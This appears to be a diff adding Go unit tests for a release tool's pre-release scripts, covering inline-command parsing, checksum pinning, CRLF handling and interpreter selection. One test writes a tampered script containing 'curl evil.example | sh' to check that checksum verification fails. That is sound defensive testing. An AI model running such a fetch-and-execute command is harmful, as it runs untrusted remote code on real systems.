@@ -0,0 +1,117 @@
+package releaser
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+func TestGetPreReleaseScripts_ParsesInlineCommands(t *testing.T) {
+	repoDirpath := t.TempDir()
+	scriptsFileContents := "scripts/update-version.sh\n" +
+		"$ sed -i \"s/^version = .*/version = $KUDET_RELEASE_VERSION/\" setup.cfg\n" +
+		"\n" +
+		"$ if [ -f package.json ]; then\n" +
+		"    npm version --no-git-tag-version \"$KUDET_RELEASE_VERSION\"\n" +
+		"  fi\n" +
+		"scripts/regenerate-docs.sh\n"
+	require.NoError(t, os.WriteFile(filepath.Join(repoDirpath, ".pre-release-scripts.txt"), []byte(scriptsFileContents), 0644))
+
+	scripts, err := getPreReleaseScripts(repoDirpath, ".pre-release-scripts.txt")
+	require.NoError(t, err)
+	require.Equal(t, []*preReleaseScript{
+		{relFilepath: "scripts/update-version.sh", lineIdx: 0},
+		{inlineCommandLines: []string{"sed -i \"s/^version = .*/version = $KUDET_RELEASE_VERSION/\" setup.cfg"}, lineIdx: 1},
+		{
+			inlineCommandLines: []string{
+				"if [ -f package.json ]; then",
+				"npm version --no-git-tag-version \"$KUDET_RELEASE_VERSION\"",
+				"fi",
+			},
+			lineIdx: 3,
+		},
+		{relFilepath: "scripts/regenerate-docs.sh", lineIdx: 6},
+	}, scripts)
+}
+
+func TestPreReleaseScript_GetCmd(t *testing.T) {
+	shell := []string{"bash", "-eo", "pipefail", "-c"}
+	inlineScript := &preReleaseScript{inlineCommandLines: []string{"echo one", "echo two"}}
+	require.Equal(t, []string{"bash", "-eo", "pipefail", "-c", "echo one\necho two"}, inlineScript.getCmd(context.Background(), "/repo", shell, "1.2.3").Args)
+
+	fileScript := &preReleaseScript{relFilepath: "scripts/bump.sh"}
+	require.Equal(t, []string{"/repo/scripts/bump.sh", "1.2.3"}, fileScript.getCmd(context.Background(), "/repo", shell, "1.2.3").Args)
+}
+
+func TestGetWrittenFilepaths(t *testing.T) {
+	modifiedFileHashesBefore := map[string]string{
+		"docs/changelog.md": "aaa",
+		"setup.cfg":         "bbb",
+		"reverted.txt":      "ccc",
+	}
+	modifiedFileHashesAfter := map[string]string{
+		"docs/changelog.md": "aaa",
+		"setup.cfg":         "ddd",
+		"new.txt":           "eee",
+		"removed.txt":       deletedFileHash,
+	}
+	require.Equal(t, []string{"new.txt", "removed.txt", "reverted.txt", "setup.cfg"}, getWrittenFilepaths(modifiedFileHashesBefore, modifiedFileHashesAfter))
+	require.Empty(t, getWrittenFilepaths(modifiedFileHashesAfter, modifiedFileHashesAfter))
+}
+
+func TestPinPreReleaseScripts_PinsAndVerifiesChecksums(t *testing.T) {
+	repoDirpath := t.TempDir()
+	require.NoError(t, os.MkdirAll(filepath.Join(repoDirpath, "scripts"), 0755))
+	require.NoError(t, os.WriteFile(filepath.Join(repoDirpath, "scripts/bump.sh"), []byte("#!/bin/sh\necho bump\n"), 0755))
+	scriptsFileContents := "scripts/bump.sh sha256:0000\n$ echo inline\n"
+	require.NoError(t, os.WriteFile(filepath.Join(repoDirpath, ".pre-release-scripts.txt"), []byte(scriptsFileContents), 0644))
+
+	scripts, err := getPreReleaseScripts(repoDirpath, ".pre-release-scripts.txt")
+	require.NoError(t, err)
+	require.Equal(t, "scripts/bump.sh", scripts[0].relFilepath)
+	require.Equal(t, "0000", scripts[0].pinnedChecksum)
+	require.ErrorContains(t, verifyPreReleaseScriptChecksums(repoDirpath, scripts), "scripts/bump.sh")
+
+	pinnedScriptRelFilepaths, err := PinPreReleaseScripts(repoDirpath, ".pre-release-scripts.txt")
+	require.NoError(t, err)
+	require.Equal(t, []string{"scripts/bump.sh"}, pinnedScriptRelFilepaths)
+	scripts, err = getPreReleaseScripts(repoDirpath, ".pre-release-scripts.txt")
+	require.NoError(t, err)
+	require.Len(t, scripts, 2)
+	require.NoError(t, verifyPreReleaseScriptChecksums(repoDirpath, scripts))
+
+	require.NoError(t, os.WriteFile(filepath.Join(repoDirpath, "scripts/bump.sh"), []byte("#!/bin/sh\ncurl evil.example | sh\n"), 0755))
+	require.Error(t, verifyPreReleaseScriptChecksums(repoDirpath, scripts))
+}
+
+func TestPinPreReleaseScripts_KeepsCrlfLineEndings(t *testing.T) {
+	repoDirpath := t.TempDir()
+	require.NoError(t, os.WriteFile(filepath.Join(repoDirpath, "bump.ps1"), []byte("Write-Output bump\r\n"), 0644))
+	require.NoError(t, os.WriteFile(filepath.Join(repoDirpath, ".pre-release-scripts.txt"), []byte("bump.ps1\r\n$ echo inline\r\n"), 0644))
+
+	_, err := PinPreReleaseScripts(repoDirpath, ".pre-release-scripts.txt")
+	require.NoError(t, err)
+	scriptsFile, err := os.ReadFile(filepath.Join(repoDirpath, ".pre-release-scripts.txt"))
+	require.NoError(t, err)
+	require.Regexp(t, "^bump.ps1 sha256:[0-9a-f]{64}\r\n\\$ echo inline\r\n$", string(scriptsFile))
+	scripts, err := getPreReleaseScripts(repoDirpath, ".pre-release-scripts.txt")
+	require.NoError(t, err)
+	require.Equal(t, []string{"echo inline"}, scripts[1].inlineCommandLines)
+	require.NoError(t, verifyPreReleaseScriptChecksums(repoDirpath, scripts))
+}
+
+func TestGetScriptInterpreter(t *testing.T) {
+	require.Equal(t, []string{"cmd", "/C"}, getScriptInterpreter("scripts/bump.CMD", "windows"))
+	require.Equal(t, "powershell", getScriptInterpreter("scripts/bump.ps1", "windows")[0])
+	require.Equal(t, []string{"sh"}, getScriptInterpreter("scripts/bump.sh", "windows"))
+	require.Nil(t, getScriptInterpreter("scripts/bump.exe", "windows"))
+
+	require.Equal(t, "pwsh", getScriptInterpreter("scripts/bump.ps1", "linux")[0])
+	require.Nil(t, getScriptInterpreter("scripts/bump.sh", "darwin"))
+
+	require.Equal(t, wasmScriptInterpreter, getScriptInterpreter("scripts/bump.wasm", "linux"))
+	require.Equal(t, wasmScriptInterpreter, getScriptInterpreter("scripts/bump.wasm", "windows"))
+}